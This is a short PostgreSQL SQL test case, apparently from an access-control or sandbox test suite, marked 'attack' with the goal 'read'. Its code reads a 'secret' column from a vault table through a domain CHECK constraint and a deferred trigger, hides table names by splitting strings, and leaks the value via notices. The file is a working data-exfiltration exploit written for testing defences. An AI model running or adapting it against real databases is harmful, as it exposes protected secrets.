-- Casts to a domain at the end of a transaction, by a deferred trigger that fails, and casts again.
-- wants: read
-- attack:
CREATE FUNCTION peek() RETURNS text LANGUAGE plpgsql IMMUTABLE AS $f$
DECLARE found text; BEGIN EXECUTE 'SELECT secret FROM vlt_' || 'account LIMIT 1' INTO found; RETURN found; END
$f$;
CREATE FUNCTION tell(what text) RETURNS bool LANGUAGE plpgsql AS $f$ BEGIN RAISE NOTICE '%', what; RETURN true; END $f$;
CREATE DOMAIN told AS text CHECK (tell(peek() || VALUE));
CREATE FUNCTION cast_it() RETURNS trigger LANGUAGE plpgsql AS $f$
DECLARE x text; BEGIN EXECUTE 'SELECT ''x''::to' || 'ld' INTO x; RAISE EXCEPTION 'enough'; END $f$;
CREATE TABLE trigger_of_it (id int);
CREATE CONSTRAINT TRIGGER late AFTER INSERT ON trigger_of_it DEFERRABLE INITIALLY DEFERRED FOR EACH ROW EXECUTE FUNCTION cast_it();
INSERT INTO trigger_of_it VALUES (1);
SELECT 'x'::told;
BEGIN;
INSERT INTO trigger_of_it VALUES (1);
COMMIT;
SELECT 'x'::told;
